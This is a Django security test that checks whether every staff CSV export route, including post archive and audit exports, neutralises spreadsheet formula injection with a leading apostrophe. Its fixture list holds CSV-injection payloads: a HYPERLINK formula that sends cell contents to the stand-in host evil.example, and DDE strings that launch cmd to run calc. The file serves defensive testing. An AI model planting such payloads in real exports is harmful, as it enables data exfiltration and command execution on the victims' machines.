"""Spreadsheet exports (every CSV a staff route serves): a cell that a spreadsheet would run as a
formula (starting with = + - @, a tab or a carriage return) is neutralised with a leading
apostrophe. Exports are found by asking every GET route of the access matrix (and with
?format=csv) for its answer."""

from __future__ import annotations

import csv
import io

from django.test import Client

from herald.people.models import Representative
from herald.people.services import policy_acknowledge, representative_create
from herald.posts.services import post_create_draft, post_submit
from tests.posts.conftest import make_channel
from tests.security.helpers import API, ROUTES, actor_for, url_for
from tests.web.test_access_matrix import objects  # noqa: F401  (fixture)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _client(rep) -> Client:
    client = Client()
    client.force_login(rep.user)
    session = client.session
    session["herald_2fa_verified"] = True
    session.save()
    return client


def test_every_csv_export_neutralises_formulas(people, objects):
    clerk = Representative.objects.get(pk=people.clerk.pk)  # the council's current policy, not a cached one
    policy_acknowledge(acting_user=clerk.user, representative=clerk)
    channel = make_channel(people, name="News", platform="newsfeed")
    for text in FORMULAS:
        post = post_create_draft(acting_user=clerk.user, council=people.council, author=clerk,
                                 text=text, channels=[channel])
        post_submit(acting_user=people.clerk.user, post=post)  # drafts never reach the archive
    representative_create(acting_user=people.clerk.user, council=people.council, name=FORMULAS[0][:60],
                          kind="volunteer", roles=[], official_email="formula@example.org")
    exports = {}
    for name, (who, method) in sorted(ROUTES.items()):
        if who == API or method != "GET" or actor_for(name, people) is None:
            continue
        client = _client(actor_for(name, people))
        for query in ("", "?format=csv"):
            response = client.get(url_for(name, objects) + query)
            if response.status_code == 200 and response.get("Content-Type", "").startswith("text/csv"):
                body = b"".join(response.streaming_content) if response.streaming else response.content
                exports[name] = body.decode("utf-8-sig")
    assert {"post-archive-export", "audit-export"} <= set(exports), sorted(exports)
    for name, body in exports.items():
        rows = list(csv.reader(io.StringIO(body)))
        bad = [cell for row in rows[1:] for cell in row if cell[:1] in DANGEROUS]
        assert not bad, f"{name}: cells a spreadsheet would run: {bad[:5]}"
    archive = exports["post-archive-export"]
    cells = {cell for row in csv.reader(io.StringIO(archive)) for cell in row}
    assert {"'" + text for text in FORMULAS} <= cells, "the texts are kept, with an apostrophe in front"
